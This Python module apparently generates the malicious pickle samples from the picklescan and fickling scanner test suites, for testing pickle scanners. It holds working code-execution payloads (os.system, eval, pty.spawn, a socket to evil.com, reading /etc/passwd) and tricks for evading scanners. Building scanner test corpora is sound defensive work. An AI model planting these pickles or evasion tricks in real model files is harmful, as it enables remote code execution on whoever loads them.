"""The pickles that the test suites of picklescan 1.0.5 (MIT, Matthieu Maitre) and fickling 0.1.12 (LGPL-3.0, Trail of Bits) build.

Neither suite comes with its package, and neither's code is here: each row names what their pickle names (the module, the name, what it is
called with), and we write the pickle ourselves, opcode by opcode, so that none of these modules has to be there. Nothing is ever loaded.
"""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

SHELL = "__import__('os').system('whoami')"
_PYTHON_2 = {"builtins": "__builtin__", "http.client": "httplib", "_pickle": "cPickle", "_operator": "operator"}


@dataclass(frozen=True, slots=True)
class Sample:
    """One file of theirs. ``hostile``: their tests want it caught."""

    name: str
    data: bytes
    hostile: bool = True


def body(value: Any) -> bytes:
    """The opcodes that build ``value``, without a pickle around them."""
    return pickle.dumps(value, 3)[2:-1]


def named(module: str, name: str, protocol: int = 4) -> bytes:
    """The opcodes that import a name, as ``pickle`` of that protocol writes them."""
    if protocol >= 4:
        return _short(module) + _short(name) + b"\x93"
    module = _PYTHON_2.get(module, module) if protocol < 3 else module
    return f"c{module}\n{name}\n".encode()


def _short(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def started(protocol: int, *parts: bytes) -> bytes:
    """A whole pickle of these opcodes."""
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + b"".join(parts) + b"."


def call(module: str, name: str, arguments: tuple[Any, ...] = (), protocol: int = 4) -> bytes:
    """A pickle that calls a name when it is loaded."""
    plain = pickle.dumps(arguments, protocol)[:-1] if protocol < 2 else body(arguments)
    return started(protocol, named(module, name, protocol), plain, b"R")


def _reduced(by: bytes, *arguments: bytes) -> bytes:
    """The opcodes of a call whose arguments are opcodes themselves."""
    return by + b"(" + b"".join(arguments) + b"tR"


# ---- picklescan: tests/init_data_files.py ----

_CALLS: tuple[tuple[str, str, tuple[Any, ...]], ...] = (
    ("http.client", "HTTPSConnection", ("github.com",)),
    ("requests.api", "get", ("https://github.com",)),
    ("aiohttp.client", "ClientSession", ()),
    ("socket", "create_connection", (("github.com", 80),)),
    ("subprocess", "run", (["ls", "-l"],)),
    ("sys", "exit", (0,)),
    ("_pickle", "loads", (b"I12345\n.",)),
    ("runpy", "_run_code", ("print('456')",)),
    ("pip", "main", (["install", "some_malicious_package", "--no-input"],)),
    ("torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", "$(echo pwned)"])),
    ("pydoc", "pipepager", ("", "echo pwned")),
    ("venv", "create", ("venv", False, False, True, False, "$(echo pwned)")),
    ("timeit", "timeit", ("", SHELL)),
    ("numpy.testing._private.utils", "runstring", (SHELL, {})),
    ("torch.utils.bottleneck.__main__", "run_cprofile", (SHELL, {})),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", (SHELL, {})),
    ("torch._dynamo.guards", "GuardBuilder.get", ({}, SHELL)),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, SHELL, [])),
    ("torch.utils.collect_env", "run", (SHELL,)),
    ("torch.utils.collect_env", "run_and_read_all", (None, SHELL)),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"")),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (SHELL, {}, {})),
    ("torch.utils._config_module", "ConfigModule.load_config", ({}, b"")),
    ("trace", "Trace.run", ({}, SHELL)),
    ("trace", "Trace.runctx", ({}, SHELL, {}, {})),
    ("profile", "Profile.run", ({}, SHELL)),
    ("profile", "Profile.runctx", ({}, SHELL, {}, {})),
    ("profile", "run", (SHELL,)),
    ("cProfile", "run", (SHELL,)),
    ("cProfile", "runctx", (SHELL, None, None)),
    ("lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"")),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, SHELL)),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", ({}, SHELL)),
    ("idlelib.autocomplete", "AutoComplete.get_entity", ({}, SHELL)),
    ("idlelib.autocomplete", "AutoComplete.fetch_completions", ({}, SHELL, 1)),
    ("idlelib.calltip", "Calltip.fetch_tip", ({}, SHELL)),
    ("idlelib.calltip", "get_entity", (SHELL,)),
    ("idlelib.run", "Executive.runcode", ({}, SHELL)),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, SHELL)),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, SHELL)),
    ("code", "InteractiveInterpreter.runcode", ({}, SHELL)),
    ("ensurepip", "_run_pip", (SHELL,)),
    ("doctest", "debug_script", (SHELL, True)),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, "whoami", True, None, None, None, 0)),
    ("distutils.file_util", "write_file", ("pwned_config.env", ["malicious content"])),
    ("ctypes", "CDLL", (None,)),
    ("pty", "spawn", (["/bin/sh", "-c", "id; exit"],)),
    ("numpy.f2py.crackfortran", "getlincoef", (SHELL, [])),
    ("_io", "FileIO", ("/etc/hosts", "r")),
    ("urllib.request", "urlopen", ("https://example.invalid",)),
    ("logging", "FileHandler", ("/tmp/pwned",)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("types", "CodeType", (0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", 0, b"")),
    ("uuid", "_get_command_stdout", ("id",)),
    ("_osx_support", "_read_output", ("id",)),
    ("_aix_support", "_read_cmd_output", ("id",)),
    ("imaplib", "IMAP4_stream", ("id",)),
    ("_pyrepl.pager", "pipe_pager", ("", "id")),
    ("test.support.script_helper", "assert_python_ok", ("-c", SHELL)),
    ("ssl", "get_server_certificate", (("root_x_0_0.dns-logger.invalid", 443),)),
    *(
        ("cloudpickle.cloudpickle", name, ())
        for name in ("_function_setstate", "_builtin_type", "_make_function", "_make_cell", "_make_empty_cell", "subimport")
    ),
)


def _globals_compiled() -> bytes:
    """The one of the 2011 talk «Sour Pickles»: globals, compile, eval, getattr and apply after one another, kept in the memo."""
    source = "fl=open('/etc/passwd');picklesmashed=fl.read();"
    two = 1
    return started(
        two,
        _reduced(named("builtins", "globals", two)) + b"p100\n0",
        _reduced(named("builtins", "compile", two), body(source), body(""), body("exec")) + b"p101\n0",
        _reduced(named("builtins", "eval", two), b"g101\n", b"g100\n") + b"p102\n0",
        _reduced(named("builtins", "getattr", two), named("builtins", "dict", two), body("get")) + b"p103\n0",
        named("builtins", "apply", two) + b"(g103\n(g100\n" + body("picklesmashed") + b"ltR" + b"p104\n0g104\n",
    )


def _from_the_memo() -> bytes:
    """os.system by names that lie in the memo, beside another pair that is a decoy."""
    kept = b"".join(
        f"V{text}\np{place}\n0".encode() for place, text in ((2, "os"), (3, "system"), (0, "torch"), (1, "LongStorage"))
    )
    return kept + b"g2\ng3\n\x93(Vcat flag.txt\ntR."


def _then_odd(*odd: bytes) -> bytes:
    """os.system is called, and then STACK_GLOBAL is given what is no name: a scanner that stumbles there must not forget the call."""
    harm = b"cos\nsystem\nVecho pwned\n\x85R0"
    return started(4, harm, *odd, b"\x93K\x42")


def _by_attrgetter(getter: str, module: str = "operator") -> bytes:
    made = _reduced(named(module, getter), body("system"))
    imported = _reduced(named("builtins", "__import__"), body("os"))
    return started(4, made, imported, b"\x85R", body("echo pwned"), b"\x85R")


def _located() -> bytes:
    called = _reduced(named("operator", "methodcaller"), body("system"), body("echo pwned"))
    return started(4, called, _reduced(named("pydoc", "locate"), body("os")), b"\x85R")


def _bdb() -> bytes:
    made = named("bdb", "Bdb") + b")\x81"
    return started(4, _reduced(named("bdb", "Bdb.run"), made, body("import os\nos.system('whoami')")))


def _partial_load() -> bytes:
    made = named("functools", "partial") + named("torch.serialization", "load") + b"\x85R"
    state = b"(" + named("torch.serialization", "load") + body(("some_other_model.bin",)) + body({"weights_only": False}) + b"Nt"
    return started(4, made, state, b"b", b")R")


def picklescan() -> Iterator[Sample]:
    """Its pickles: three protocols of the plain ones, then each trick that was ever reported to it."""
    for protocol in (0, 3, 4):
        yield Sample(f"benign0-v{protocol}", pickle.dumps(["a", "b", "c"], protocol), hostile=False)
        yield Sample(f"eval-v{protocol}", call("builtins", "eval", ("print('456')",), protocol))
        yield Sample(f"system-v{protocol}", call("posix", "system", ("ls -la",), protocol))
    for module, name, arguments in _CALLS:
        yield Sample(f"{module}.{name}", call(module, name, arguments))
    yield Sample("http-v0", call("http.client", "HTTPSConnection", ("github.com",), 0))
    yield Sample("loads-v0", call("_pickle", "loads", (b"I12345\n.",), 0))
    yield Sample("pip-v0", call("pip", "main", (["install", "x"],), 0))
    yield Sample("sour-pickles", _globals_compiled())
    yield Sample("inst", b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n.")
    yield Sample("memo", _from_the_memo())
    yield Sample("memo-and-blanks", _from_the_memo() + b"\n\n\t\t")
    yield Sample("memo-without-the-key", _then_odd(_short("os"), b"\x94h\x03h\x00"))
    yield Sample("memo-with-a-number", _then_odd(b"J\x2a\0\0\0\x94", _short("os"), b"\x94h\x00h\x01"))
    yield Sample("broken-model", b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.")
    yield Sample("string-opcodes", b"S'os'\nS'system'\n\x93S'ls'\n\x85R.")
    yield Sample("attrgetter", _by_attrgetter("attrgetter"))
    yield Sample("attrgetter-of-_operator", _by_attrgetter("attrgetter", "_operator"))
    yield Sample("methodcaller-of-_operator", _by_attrgetter("methodcaller", "_operator"))
    yield Sample("methodcaller-and-locate", _located())
    yield Sample("bdb", _bdb())
    yield Sample("partial-of-load", _partial_load())
    yield Sample("second-pickle", pickle.dumps(["a", "b", "c"]) + call("requests.api", "get", ("https://github.com",)))
    yield Sample("counter", call("collections", "Counter", ([1, 2, 3],)), hostile=False)
    yield Sample("not-a-pickle", b"cmod\n\xf8\n")


def archives() -> Iterator[Sample]:
    """Its zips around the eval: as it is, under another name, with one name of two, with a wrong checksum, with flags that mean nothing."""
    evil = call("builtins", "eval", ("print('456')",))
    plain = zipped("data.pkl", evil)
    yield Sample("plain", plain)
    yield Sample("other-extension", zipped("data.txt", evil))
    yield Sample("two-names", plain.replace(b"data.pkl", b"datap.kl", 1))
    yield Sample("wrong-checksum", plain.replace(b"print('456')", b"print('123')", 1))
    at = plain.index(b"PK\1\2")
    yield Sample(
        "checksum-of-the-directory", plain[: at + 16] + bytes(code ^ 0xFF for code in plain[at + 16 : at + 20]) + plain[at + 20 :]
    )
    for flag in (0x1, 0x20, 0x40):
        yield Sample(f"flag-{flag:#x}", plain[: at + 8] + struct.pack("<H", flag) + plain[at + 10 :])


def zipped(name: str, data: bytes) -> bytes:
    """A stored zip of one file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


# ---- fickling: test/test_attack_vectors.py, test_bypasses.py, test_cve_patterns.py, test_crashes.py, test_expansion_attack_analysis.py ----

_CODE = marshal.dumps(compile("import os; os.system('id')", "<string>", "exec"))
_VECTORS: tuple[tuple[str, str, tuple[Any, ...]], ...] = (
    ("os", "system", ("id",)),
    ("posix", "system", ("id",)),
    ("os", "popen", ("id",)),
    ("os", "execv", ("/bin/sh", ["/bin/sh", "-c", "id"])),
    ("subprocess", "call", (["id"],)),
    ("subprocess", "Popen", (["id"],)),
    ("subprocess", "run", (["id"],)),
    ("subprocess", "check_output", (["id"],)),
    ("builtins", "eval", (SHELL,)),
    ("builtins", "exec", ("import os; os.system('id')",)),
    ("builtins", "compile", ("import os", "<string>", "exec")),
    ("builtins", "__import__", ("os",)),
    ("builtins", "getattr", (object, "__class__")),
    ("socket", "create_connection", (("evil.com", 4444),)),
    ("socket", "socket", ()),
    ("runpy", "run_path", ("/tmp/malicious.py",)),
    ("runpy", "run_module", ("os",)),
    ("cProfile", "run", (SHELL,)),
    ("code", "InteractiveInterpreter", ()),
    ("importlib", "import_module", ("os",)),
    ("marshal", "loads", (_CODE,)),
    ("ctypes", "CDLL", ("libc.so.6",)),
    ("pty", "spawn", ("/bin/sh",)),
    ("pydoc", "locate", ("os.system",)),
    ("multiprocessing.util", "spawnv_passfds", (b"/bin/sh", [b"/bin/sh", b"-c", b"id"], ())),
    ("sys", "exit", (0,)),
)
_SUBMODULES: tuple[tuple[str, str, tuple[Any, ...]], ...] = (
    ("ctypes.util", "find_library", ("c",)),
    ("importlib.util", "find_spec", ("os",)),
    ("multiprocessing.util", "spawnv_passfds", ()),
    ("code", "InteractiveConsole", ()),
    ("runpy", "_run_code", ()),
)


def _attribute(module: str, name: str, made: bytes, attribute: str, argument: Any) -> bytes:
    """getattr of what a call gave, called in turn."""
    owner = named(module, name) + made + b"R"
    return started(5, named("builtins", "getattr"), owner, body(attribute), b"\x86R", body(argument), b"\x85R")


def _spelled() -> bytes:
    """Names put together from the letters of an alphabet by itemgetter and ''.join: no scanner that reads strings sees «os»."""
    letters = "osytem"

    def joined(word: str) -> bytes:
        places = b"".join(body(letters.index(letter)) for letter in word)
        picked = _reduced(_reduced(named("operator", "itemgetter"), places), body(letters))
        return _reduced(_reduced(named("builtins", "getattr"), body(""), body("join")), picked)

    return started(4, joined("os"), joined("system"), b"\x93")


def fickling() -> Iterator[Sample]:
    """Its attacks: each at all six protocols, then the tricks."""
    for module, name, arguments in _VECTORS:
        for protocol in range(6):
            yield Sample(f"{module}.{name}-v{protocol}", call(module, name, arguments, protocol))
    for module, name, arguments in _SUBMODULES:
        yield Sample(f"{module}.{name}", call(module, name, arguments))
    for module, name in (
        ("types", "FunctionType"),
        ("subprocess", "Popen"),
        ("sys", "modules"),
        ("multiprocessing.util", "spawnv_passfds"),
    ):
        yield Sample(f"import-of-{module}.{name}", started(4, named(module, name)))
    yield Sample("pty-then-build", started(4, _reduced(named("pty", "spawn"), body("id")), body("gottem"), b"b"))
    yield Sample("pty-obj", b"(cpty\nspawn\nS'id'\no.")
    yield Sample("system-obj", b'(cos\nsystem\nS"whoami"\no.')
    code = _reduced(named("marshal", "loads"), body(_CODE))
    made = _reduced(named("types", "FunctionType"), code, b"}")
    yield Sample("marshal-and-types", started(4, made, b")R", body("gottem"), b"b"))
    yield Sample("getattr-of-ctypes", _attribute("ctypes", "CDLL", body(("libc.dylib",)), "system", b"id"))
    yield Sample("getattr-of-importlib", _attribute("importlib", "import_module", body(("os",)), "system", "id"))
    yield Sample("getattr-of-code", _attribute("code", "InteractiveInterpreter", b")", "runsource", SHELL))
    located = (
        _reduced(named("pydoc", "locate", 1), body("ctypes.windll.kernel32.WinExec"))
        + b"p0\n0g0\n"
        + body((b"calc.exe", 1))
        + b"Rp1\n0"
    )
    yield Sample("locate-in-an-exception", located + named("builtins", "Exception") + b")R}" + body("rce_status") + b"g1\nsb.")
    poly = named("numpy", "poly1d") + b"\x940" + named("numpy", "size") + b"\x940" + named("numpy", "__builtins__") + b"\x940"
    yield Sample("numpy-poly1d", started(4, poly, _reduced(b"h\x00", b"N"), body("shape"), b"h\x02\x86b"))
    yield Sample("spelled-by-itemgetter", _spelled())


def expansions() -> Iterator[Sample]:
    """Lists of lists of themselves, by DUP and by the memo: few bytes that a walk through the loaded object never ends. Loading stays small."""
    by_dup = b"".join((b"(" * 9, body("lol"), *(b"2" * 9 + b"l" for _ in range(9))))
    yield Sample("dup", started(4, by_dup))
    layers = b"".join(b"q" + bytes([layer]) + b"h" + (bytes([layer]) + b"h") * 8 + bytes([layer]) + b"l" for layer in range(9))
    yield Sample("memo", started(4, b"(" * 9, body("lol"), layers))
